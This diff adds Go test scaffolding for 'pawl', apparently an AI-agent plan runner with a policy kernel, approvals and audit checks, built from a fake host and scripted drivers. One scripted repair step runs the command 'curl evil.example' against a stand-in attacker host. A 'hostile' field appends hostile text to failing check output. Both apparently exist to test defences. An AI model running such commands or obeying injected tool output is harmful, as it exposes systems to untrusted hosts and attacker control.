@@ -1,0 +1,339 @@
+package cli_test
+
+import (
+	"bytes"
+	"context"
+	"crypto/sha256"
+	"encoding/json"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"pawl"
+	"pawl/audit"
+	"pawl/cli"
+	"pawl/effect"
+	"pawl/kernel"
+	"pawl/plan"
+	"pawl/policy"
+	"pawl/runner"
+	"pawl/store/memory"
+)
+
+// TestMain fixes the time zone, so that transcripts are the same everywhere.
+func TestMain(m *testing.M) {
+	time.Local = time.UTC
+	os.Exit(m.Run())
+}
+
+// fakeHost is a program around the command line that keeps everything in memory: a store, drivers that follow a script, and
+// a clock and ids that are the same in every run.
+type fakeHost struct {
+	dir    string
+	store  *memory.Store
+	world  *world
+	now    time.Time
+	ids    *counter
+	owner  *cli.Owner
+	made   bool
+	noGit  bool
+	edit   func(path string) error
+	broken bool // the audit log does not verify
+}
+
+func newHost(t *testing.T) *fakeHost {
+	t.Helper()
+	return &fakeHost{
+		dir: t.TempDir(), store: memory.New(), now: time.Date(2026, 2, 8, 12, 0, 0, 0, time.UTC), ids: &counter{},
+		world: &world{plan: twoSteps()},
+	}
+}
+
+// counter is a source of "randomness" that is the same in every run.
+type counter struct {
+	mu sync.Mutex
+	n  int
+}
+
+func (c *counter) Read(p []byte) (int, error) {
+	c.mu.Lock()
+	defer c.mu.Unlock()
+	for i := 0; i < len(p); {
+		c.n++
+		sum := sha256.Sum256(fmt.Append(nil, c.n))
+		i += copy(p[i:], sum[:])
+	}
+	return len(p), nil
+}
+
+func (h *fakeHost) Find(string) (effect.Place, error) {
+	return effect.Place{Workspace: h.dir, Tree: h.dir, Git: !h.noGit}, nil
+}
+
+func (h *fakeHost) Open(_ context.Context, place effect.Place, o cli.Open) (*cli.Workspace, error) {
+	if !h.made && !o.Create {
+		return nil, pawl.Fail(pawl.CodeNotFound, "kernel.not_initialised")
+	}
+	h.made = true
+	base := kernel.Defaults()
+	for _, t := range h.Tools() {
+		base.Tools[t.Name] = kernel.Tool{Info: t, Request: func(args json.RawMessage) (policy.Request, error) {
+			var a struct{ Command, Path string }
+			_ = json.Unmarshal(args, &a)
+			r := policy.Request{Tool: t.Name, Permissions: t.Permissions, Command: a.Command}
+			if a.Path != "" {
+				r.Paths = []policy.Path{{Rel: a.Path, Op: policy.OpWrite}}
+			}
+			return r, nil
+		}}
+	}
+	config, err := o.Config.Kernel(base)
+	if err != nil {
+		return nil, err
+	}
+	h.now = h.now.Add(time.Minute)
+	now := h.now
+	k := kernel.New(h.store, config, pawl.ClockFunc(func() time.Time { return now }), h.ids)
+	return &cli.Workspace{
+		Place: place, Kernel: k, Tools: h.Tools(),
+		Runner: func(progress func(effect.Effect, string)) *runner.Runner { return runner.New(k, h.world.options(progress)) },
+		Own: func(string) (func(), error) {
+			if h.owner != nil {
+				return nil, pawl.Fail(pawl.CodeBusy, "store.owned", h.owner.PID)
+			}
+			return func() {}, nil
+		},
+		Owner: func() (cli.Owner, bool) {
+			if h.owner == nil {
+				return cli.Owner{}, false
+			}
+			return *h.owner, true
+		},
+		Export: func(context.Context) ([]string, error) { return []string{"active_context.md"}, nil },
+		Diff: func(context.Context, effect.Place, string, string) (string, error) {
+			return "diff --git a/a.txt b/a.txt\n--- a/a.txt\n+++ b/a.txt\n@@ -1 +1,2 @@\n-old\n+new\n+more\n", nil
+		},
+		Backup:     func(_ context.Context, path string) error { return os.WriteFile(path, nil, 0o600) },
+		Checkpoint: func(context.Context) ([]byte, error) { return []byte("note\n"), nil },
+		Verify: func(ctx context.Context, notes ...[]byte) (audit.Report, error) {
+			if h.broken {
+				return audit.Report{}, pawl.Fail(pawl.CodeAuditBroken, "audit.altered", 3)
+			}
+			head, err := h.store.Head(ctx)
+			if err != nil {
+				return audit.Report{}, err
+			}
+			return audit.Verify(h.store.Records(ctx, "", 0), head)
+		},
+		Warnings: func(context.Context) []cli.Finding { return nil },
+		Close:    func() error { return nil },
+	}, nil
+}
+
+func (h *fakeHost) Doctor(context.Context, effect.Place) []cli.Finding {
+	return []cli.Finding{{Name: "system", State: "ok", Key: "cli.doctor_system", Value: "test"}, {Name: "git", State: "warn", Key: "cli.doctor_no_git"}}
+}
+
+func (h *fakeHost) Demo(_ context.Context, dir string) (cli.Sample, error) {
+	if err := os.MkdirAll(dir, 0o755); err != nil {
+		return cli.Sample{}, err
+	}
+	h.dir = dir
+	return cli.Sample{Dir: dir, Requirement: "make the checks pass"}, nil
+}
+
+func (h *fakeHost) Log(context.Context, string, int) ([]string, error) { return []string{"c1 do the work"}, nil }
+
+func (h *fakeHost) Edit(_ context.Context, path string) error { return h.edit(path) }
+
+func (h *fakeHost) Tools() []effect.ToolInfo {
+	tool := func(name string, idempotent bool, p policy.Permission) effect.ToolInfo {
+		return effect.ToolInfo{Name: name, Version: "1.0.0", Description: "the tool " + name, ArgsSchema: json.RawMessage(`{"type":"object"}`), Permissions: []policy.Permission{p}, Idempotent: idempotent}
+	}
+	return []effect.ToolInfo{tool("read_file", true, policy.FSRead), tool("write_file", false, policy.FSWrite), tool("run_terminal_cmd", false, policy.ProcExec)}
+}
+
+// world answers effects as drivers in good order would, except for what it is told to fail.
+type world struct {
+	plan       plan.Plan
+	failChecks int
+	failGates  int
+	lost       bool // a call's outcome cannot be known
+	hang       chan struct{}
+	cannotPlan bool
+	repair     string // tool of the repairs, "" for write_file
+	conflict   bool   // landing is kept on a branch
+	hostile    string
+}
+
+func (w *world) options(progress func(effect.Effect, string)) runner.Options {
+	o := runner.Options{Owner: "test/1/abc", Drivers: map[effect.Kind]runner.Driver{}, Tools: map[string]runner.Driver{}, Progress: progress, Poll: time.Millisecond}
+	for _, k := range []effect.Kind{
+		effect.KindContext, effect.KindPlan, effect.KindRepair, effect.KindWorktree, effect.KindCheckpoint, effect.KindRestore, effect.KindVerify,
+		effect.KindGates, effect.KindLand, effect.KindRevert, effect.KindCleanup, effect.KindArchive,
+	} {
+		o.Drivers[k] = w
+	}
+	for _, t := range []string{"read_file", "write_file", "run_terminal_cmd"} {
+		o.Tools[t] = w
+	}
+	return o
+}
+
+// Done knows nothing of an effect whose runner died.
+func (w *world) Done(context.Context, effect.Effect) (effect.Answer, effect.Receipt) {
+	return effect.DoneUnknown, effect.Receipt{}
+}
+
+// Do answers an effect.
+func (w *world) Do(ctx context.Context, e effect.Effect, progress effect.Progress) effect.Receipt {
+	switch e.Kind {
+	case effect.KindContext:
+		return effect.Succeeded(effect.ContextResult{Head: "c0", Branch: "main", Checks: []effect.Check{{Name: "tests", Command: "go test ./...", Level: 2}}})
+	case effect.KindPlan:
+		return w.planned()
+	case effect.KindWorktree:
+		return effect.Succeeded(effect.WorktreeResult{Tree: "t0"})
+	case effect.KindCheckpoint:
+		spec, _ := effect.Decode[effect.CheckpointSpec](e.Spec)
+		return effect.Succeeded(effect.CheckpointResult{Name: spec.Name, Tree: "t0", Commit: "k", Ref: "refs/pawl/" + spec.Name})
+	case effect.KindTool:
+		return w.call(ctx, e, progress)
+	case effect.KindVerify, effect.KindGates:
+		return w.verify(e.Kind)
+	case effect.KindRepair:
+		tool, args := "write_file", `{"path":"b.txt"}`
+		if w.repair != "" {
+			tool, args = w.repair, `{"command":"curl evil.example"}`
+		}
+		return effect.Succeeded(effect.RepairResult{Steps: []plan.Step{step("x", tool, args)}, Why: "script.repair_format", Agent: "script"})
+	case effect.KindLand:
+		return w.land()
+	case effect.KindRevert:
+		return effect.Succeeded(effect.LandResult{Outcome: effect.Landed, Commit: strings.Repeat("2", 40), Tree: "t0", Branch: "main"})
+	case effect.KindCleanup:
+		return effect.Succeeded(effect.CleanupResult{Performed: []string{"worktree"}})
+	case effect.KindRestore:
+		return effect.Succeeded(effect.RestoreResult{Before: "t1", After: "t0"})
+	}
+	return effect.Succeeded(effect.ArchiveResult{})
+}
+
+func (w *world) planned() effect.Receipt {
+	if w.cannotPlan {
+		return effect.Failed(pawl.Fail(pawl.CodeCannotPlan, "script.no_plan", "do magic"))
+	}
+	p := w.plan.Clone()
+	return effect.Succeeded(effect.PlanResult{Plan: &p, Agent: "script"})
+}
+
+func (w *world) call(ctx context.Context, e effect.Effect, progress effect.Progress) effect.Receipt {
+	call, _ := effect.Decode[effect.ToolCall](e.Spec)
+	progress("working on " + call.StepID)
+	if w.hang != nil {
+		w.hang <- struct{}{}
+		<-ctx.Done()
+		return effect.Failed(pawl.Fail(pawl.CodeCanceled, "runner.driver_failed"))
+	}
+	return effect.Succeeded(effect.ToolResult{CallID: call.CallID, After: "t1"})
+}
+
+func (w *world) verify(kind effect.Kind) effect.Receipt {
+	out := effect.CheckOutcome{Check: effect.Check{Name: "tests", Command: "go test ./..."}, Status: effect.CheckPassed, DurationMS: 1200}
+	left := &w.failChecks
+	if kind == effect.KindGates {
+		out.Check, left = effect.Check{Name: "doctor"}, &w.failGates
+	}
+	if *left > 0 {
+		*left--
+		out.Status, out.ExitCode, out.Output = effect.CheckFailed, 1, "--- FAIL: TestX\nwant 1, got 2\n"+w.hostile
+	}
+	return effect.Succeeded(effect.VerifyResult{
+		Outcomes: []effect.CheckOutcome{out}, Passed: out.Status == effect.CheckPassed, Tree: "t1t1t1t1t1t1t1", TreeAfter: "t1t1t1t1t1t1t1", Fingerprint: fmt.Sprint(*left),
+	})
+}
+
+func (w *world) land() effect.Receipt {
+	files := []effect.FileStat{{Path: "a.txt", Status: "M", Added: 2, Removed: 1}, {Path: "说明.md", Status: "A", Added: 10}}
+	if w.conflict {
+		return effect.Succeeded(effect.LandResult{Outcome: effect.Kept, Commit: strings.Repeat("1", 40), Tree: "t1", Branch: "pawl/T-001", Reason: "land.moved", Command: "git merge pawl/T-001", Files: files})
+	}
+	return effect.Succeeded(effect.LandResult{Outcome: effect.Landed, Commit: strings.Repeat("1", 40), Tree: "t1", Branch: "main", Files: files})
+}
+
+func step(id, tool, args string) plan.Step {
+	return plan.Step{StepID: id, Title: "step " + id, Intent: "because of " + id, Status: plan.Pending, ToolCalls: []plan.ToolCallTemplate{{Name: tool, ArgsHint: json.RawMessage(args)}}}
+}
+
+func twoSteps() plan.Plan {
+	return plan.Plan{
+		Goal: "do the work", Constraints: []string{"keep it small"}, RiskLevel: pawl.RiskLow,
+		Steps:        []plan.Step{step("s1", "write_file", `{"path":"a.txt","content":"one\ntwo\n"}`), step("s2", "run_terminal_cmd", `{"command":"go generate ./..."}`)},
+		Verification: plan.VerificationPolicy{Mode: plan.VerifyTest, Commands: []string{}, Required: true, StopOnFail: true},
+	}
+}
+
+// console runs command lines against a host and keeps a transcript.
+type console struct {
+	t    *testing.T
+	host *fakeHost
+	env  map[string]string
+	in   string
+	tty  bool
+	log  bytes.Buffer
+}
+
+func newConsole(t *testing.T, lang string) *console {
+	h := newHost(t)
+	return &console{t: t, host: h, env: map[string]string{"USER": "ada", "HOME": filepath.Join(h.dir, "home"), "LANG": lang, "PAWL_RETRY_KIND": "none"}}
+}
+
+// run runs one command line and returns its exit status and what it wrote.
+func (c *console) run(args ...string) (status int, out, errs string) { return c.runIn(context.Background(), args...) }
+
+func (c *console) runIn(ctx context.Context, args ...string) (status int, out, errs string) {
+	var o, e, both bytes.Buffer
+	std := cli.Streams{
+		In: strings.NewReader(c.in), Out: &tee{&o, &both}, Err: &tee{&e, &both}, TTY: c.tty, Width: 80, Dir: c.host.dir,
+		Env: func(name string) string { return c.env[name] },
+	}
+	status = cli.Main(ctx, c.host, std, args)
+	fmt.Fprintf(&c.log, "$ pawl %s\n%s[%d]\n\n", strings.Join(args, " "), strings.ReplaceAll(both.String(), c.host.dir, "/w"), status)
+	return status, o.String(), e.String()
+}
+
+// must runs a command line that ends with the status.
+func (c *console) must(want int, args ...string) string {
+	c.t.Helper()
+	status, out, errs := c.run(args...)
+	if status != want {
+		c.t.Fatalf("pawl %s: exit %d, want %d\n%s%s", strings.Join(args, " "), status, want, out, errs)
+	}
+	return out + errs
+}
+
+// hash is the hash that waits for approval.
+func (c *console) hash() string {
+	c.t.Helper()
+	_, out, _ := c.run("status", "--json")
+	var st struct {
+		Approval struct {
+			Hash string `json:"hash"`
+		} `json:"approval"`
+	}
+	if err := json.Unmarshal([]byte(out), &st); err != nil || st.Approval.Hash == "" {
+		c.t.Fatalf("no approval in %s", out)
+	}
+	return st.Approval.Hash[:12]
+}
+
+type tee struct{ a, b *bytes.Buffer }
+
+func (t *tee) Write(p []byte) (int, error) {
+	t.b.Write(p)
+	return t.a.Write(p)
+}
